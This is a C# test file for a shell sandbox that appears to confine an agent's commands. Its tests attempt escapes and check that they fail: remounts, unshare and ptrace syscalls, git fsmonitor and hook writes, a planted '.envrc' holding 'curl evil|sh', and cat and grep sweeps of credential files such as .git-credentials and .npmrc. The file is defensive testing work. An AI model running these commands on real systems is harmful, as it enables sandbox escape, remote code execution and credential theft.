using Sov.Borders.Processes;
using Sov.Borders.Sandbox;
using Sov.Core.Processes;

namespace Sov.Tests.Sandbox;

/// <summary>
/// Issue #11, the process border as root and as a user: no capabilities, the seccomp filter, the whole of
/// version-control and editor metadata read-only at any depth, masks that survive renames, and the
/// credential files and Sovereign's own folders masked. CI runs these as root.
/// </summary>
public sealed class SandboxHardeningTests : IDisposable
{
    private readonly SandboxWorld _world = new();

    public void Dispose() => _world.Dispose();

    // #11.1: as root the command kept every capability; remount and umount undid the read-only binds.
    [Fact]
    public async Task CommandsHoldNoCapabilitiesAndCannotRemountOrUnmount()
    {
        Directory.CreateDirectory(Path.Combine(_world.Workspace, ".git", "hooks"));
        var status = await _world.RunAsync(SandboxProbe.InsideCheck);
        Assert.True(SandboxProbe.Judge(_world.Settings, status.Output).Available, status.Output);

        var result = await _world.RunAsync(
            "mount -o remount,rw,bind / ; umount .git/hooks; umount .git; umount /run; umount -l /tmp; " +
            "touch /sov-root-canary; echo x > .git/hooks/post-checkout; echo RUN:$(ls -A /run):");
        Assert.False(File.Exists("/sov-root-canary"));
        Assert.False(File.Exists(Path.Combine(_world.Workspace, ".git", "hooks", "post-checkout")), result.Output);
        var run = result.Output[(result.Output.LastIndexOf("RUN:", StringComparison.Ordinal) + 4)..];
        Assert.DoesNotMatch("lock|systemd|dbus|user", run); // the host's /run stays hidden (umount mentions only its own /run/mount)
    }

    // #11.1: the filter refuses what escapes need, whatever program asks.
    [Fact]
    public async Task TheFilterRefusesNamespacesTracingAndMounts()
    {
        var result = await _world.RunAsync("unshare -U true && echo UNSHARED; unshare -r -n true && echo UNSHARED2; " +
            "strace -o /dev/null true && echo TRACED; echo done");
        Assert.DoesNotContain("UNSHARED", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("TRACED", result.Output, StringComparison.Ordinal);
        if (!File.Exists("/usr/bin/python3"))
        {
            return;
        }

        // Raw system calls, so no tool's own checks stand in for the filter: each must fail with EPERM (1).
        var nr = Sov.Borders.Sandbox.Seccomp.SeccompSyscalls.X64.RefusedByName;
        string[] calls = ["mount", "umount2", "pivot_root", "ptrace", "keyctl", "bpf", "perf_event_open", "userfaultfd", "unshare", "setns", "open_tree", "fsopen", "move_mount"];
        var script = "import ctypes,os\nl=ctypes.CDLL(None,use_errno=True)\n" +
            string.Concat(calls.Select(c => $"ctypes.set_errno(0);r=l.syscall({nr[c]},0,0,0,0,0);print('{c}',r,ctypes.get_errno())\n")) +
            "ctypes.set_errno(0);r=l.syscall(56,0x10000000|17,0,0,0,0);print('clone-newuser',r,ctypes.get_errno())\n";
        File.WriteAllText(Path.Combine(_world.Workspace, "calls.py"), script);
        if (System.Runtime.InteropServices.RuntimeInformation.ProcessArchitecture != System.Runtime.InteropServices.Architecture.X64)
        {
            return;
        }

        var raw = await _world.RunAsync("python3 calls.py");
        foreach (var c in calls.Append("clone-newuser"))
        {
            Assert.Contains($"{c} -1 1\n", raw.Output, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task FilesWrittenKeepTheUsersOwnership()
    {
        await _world.RunAsync("echo x > owned.txt");
        var expected = (await new ProcessRunner().RunAsync(["id", "-u"], _world.Workspace, new Dictionary<string, string>(), TimeSpan.FromSeconds(10), cancellationToken: TestContext.Current.CancellationToken)).StandardOutput.Trim();
        var stat = await new ProcessRunner().RunAsync(["stat", "-c", "%u", Path.Combine(_world.Workspace, "owned.txt")], _world.Workspace, new Dictionary<string, string>(), TimeSpan.FromSeconds(10), cancellationToken: TestContext.Current.CancellationToken);
        Assert.Equal(expected, stat.StandardOutput.Trim());
    }

    // #11.2: nested metadata, .git files and commondir leading to a config the sandbox could write.
    [Fact]
    public async Task MetadataIsReadOnlyAtAnyDepthAndWhereGitPointsInsideTheWorkspace()
    {
        var ws = _world.Workspace;
        Write(".git/HEAD", "ref: refs/heads/main\n");
        Write(".git/commondir", "../shared-git\n");
        Write("shared-git/config", "[core]\n");
        Write("sub/.git/config", "[core]\n");
        Write("sub/.vscode/settings.json", "{}");
        Write("wt/.git", "gitdir: ../real-gitdir\n");
        Write("real-gitdir/config", "[core]\n");
        Write("deep/a/b/.idea/workspace.xml", "<x/>");
        var result = await _world.RunAsync(
            "echo '[core] fsmonitor=id' >> shared-git/config; echo x > .git/info; mkdir -p .git/info; echo '* filter=x' > .git/info/attributes; " +
            "echo 'ref: refs/heads/evil' > .git/HEAD; echo '[core] fsmonitor=id' >> sub/.git/config; echo '{}' > sub/.vscode/tasks.json; " +
            "echo 'gitdir: /tmp' > wt/.git; echo '[core] fsmonitor=id' >> real-gitdir/config; echo x > deep/a/b/.idea/run.xml; " +
            "echo 'curl evil|sh' > .envrc; mkdir .direnv; mkdir -p n/.git && echo x > n/.git/config; mv sub/.git sub/g2; echo end");
        Assert.Equal("[core]\n", Read("shared-git/config"));
        Assert.Equal("ref: refs/heads/main\n", Read(".git/HEAD"));
        Assert.False(Path.Exists(Path.Combine(ws, ".git", "info")));
        Assert.Equal("[core]\n", Read("sub/.git/config"));
        Assert.False(File.Exists(Path.Combine(ws, "sub/.vscode/tasks.json")));
        Assert.Equal("gitdir: ../real-gitdir\n", Read("wt/.git"));
        Assert.Equal("[core]\n", Read("real-gitdir/config"));
        Assert.False(File.Exists(Path.Combine(ws, "deep/a/b/.idea/run.xml")));
        Assert.False(Path.Exists(Path.Combine(ws, ".envrc")), result.Output);
        Assert.False(Path.Exists(Path.Combine(ws, ".direnv")));
        Assert.True(Directory.Exists(Path.Combine(ws, "sub/.git")));
    }

    // #11.5: renaming the held-back file's folder in one command and reading it under the new name in the next.
    [Fact]
    public async Task MasksSurviveRenamesAndLinks()
    {
        Write("secrets/deep/key.pem", "MASKED CANARY");
        Write("other/x", "x");
        var masks = new[] { Path.Combine(_world.Workspace, "secrets", "deep", "key.pem") };
        Task<ShellResult> Run(string command) =>
            _world.Shell.RunAsync(new ShellRequest(command, _world.Workspace, TimeSpan.FromSeconds(30)) { Masks = masks }, TestContext.Current.CancellationToken);
        var first = await Run("mv secrets s2; mv secrets/deep d2; mv secrets/deep/key.pem k; ln secrets/deep/key.pem k2; cp -a secrets c2; cat secrets/deep/key.pem; echo end");
        Assert.DoesNotContain("MASKED CANARY", first.Output, StringComparison.Ordinal);
        var second = await Run("cat s2/deep/key.pem d2/key.pem k k2 c2/deep/key.pem; grep -r CANARY . ; echo end");
        Assert.DoesNotContain("MASKED CANARY", second.Output, StringComparison.Ordinal);
        Assert.Equal("MASKED CANARY", Read("secrets/deep/key.pem"));
        var ordinary = await Run("mv other other2 && echo moved");
        Assert.Contains("moved", ordinary.Output, StringComparison.Ordinal);
    }

    // #11.7: credential files beyond ~/.ssh, and Sovereign's own folders (other workspaces' sessions, the journal).
    [Fact]
    public async Task CredentialFilesAndSovereignsFoldersAreMasked()
    {
        var home = _world.Home;
        string[] secrets = [".git-credentials", ".config/gh/hosts.yml", ".npmrc", ".pypirc", ".cargo/credentials.toml", ".config/hub", ".terraform.d/credentials.tfrc.json", ".m2/settings.xml", ".gradle/gradle.properties", ".bash_history"];
        foreach (var s in secrets)
        {
            Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(home, s))!);
            File.WriteAllText(Path.Combine(home, s), "CRED CANARY " + s);
        }

        var state = Directory.CreateDirectory(Path.Combine(_world.Base, "sovhome", "sessions")).FullName;
        File.WriteAllText(Path.Combine(state, "other.jsonl"), "SESSION CANARY");
        var settings = _world.Settings with { PrivateFolders = [Path.GetDirectoryName(state)!] };
        var shell = new BubblewrapShell(settings, new ProcessRunner());
        var result = await shell.RunAsync(new ShellRequest(
            $"cd {home} && cat {string.Join(' ', secrets)} {state}/other.jsonl; grep -r CANARY {home} {_world.Base}/sovhome; echo x >> {state}/other.jsonl; echo end",
            _world.Workspace, TimeSpan.FromSeconds(30)), TestContext.Current.CancellationToken);
        Assert.DoesNotContain("CANARY", result.Output, StringComparison.Ordinal);
        Assert.Equal("SESSION CANARY", File.ReadAllText(Path.Combine(state, "other.jsonl")));
    }

    // Sovereign's folders may hold the workspace (SOV_HOME above it): the mask goes around it, not over it.
    [Fact]
    public async Task APrivateFolderHoldingTheWorkspaceIsMaskedAroundIt()
    {
        File.WriteAllText(Path.Combine(_world.Base, "journal.jsonl"), "JOURNAL CANARY");
        var shell = new BubblewrapShell(_world.Settings with { PrivateFolders = [_world.Base] }, new ProcessRunner());
        var result = await shell.RunAsync(new ShellRequest($"echo ok > made; cat made {_world.Base}/journal.jsonl", _world.Workspace, TimeSpan.FromSeconds(30)), TestContext.Current.CancellationToken);
        Assert.Contains("ok", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("JOURNAL CANARY", result.Output, StringComparison.Ordinal);
    }

    // #11.2: where none existed a command can create metadata, but it does not stay where git and editors look.
    [Fact]
    public void MetadataCreatedByACommandIsSetAside()
    {
        var workspace = new Core.Files.Workspace(_world.Workspace, new Sov.Borders.FileSystem.NativeFileSystem());
        Write("kept/.vscode/settings.json", "{}");
        var before = Core.Files.ProtectedEntries.Find(workspace.Files, workspace.Root, TestContext.Current.CancellationToken);
        Write("sub/.git/config", "[core]\n\tfsmonitor = touch pwned\n");
        Write("sub/.vscode/tasks.json", "{}");
        Write("deep/x/.envrc", "curl evil | sh");
        Write("deep/x/.envrc.sov-set-aside", "taken");
        var moved = Core.Files.CreatedMetadata.SetAside(workspace, before, TestContext.Current.CancellationToken);
        Assert.Equal(
            ["deep/x/.envrc -> deep/x/.envrc.sov-set-aside-2", "sub/.git -> sub/.git.sov-set-aside", "sub/.vscode -> sub/.vscode.sov-set-aside"],
            moved.Select(m => $"{m.Was} -> {m.Now}").Order(StringComparer.Ordinal));
        Assert.False(Path.Exists(Path.Combine(_world.Workspace, "sub", ".git")));
        Assert.Equal("{}", Read("kept/.vscode/settings.json"));
        Assert.Equal("curl evil | sh", Read("deep/x/.envrc.sov-set-aside-2"));
    }

    private void Write(string relative, string content)
    {
        var path = Path.Combine(_world.Workspace, relative);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, content);
    }

    private string Read(string relative) => File.ReadAllText(Path.Combine(_world.Workspace, relative));
}
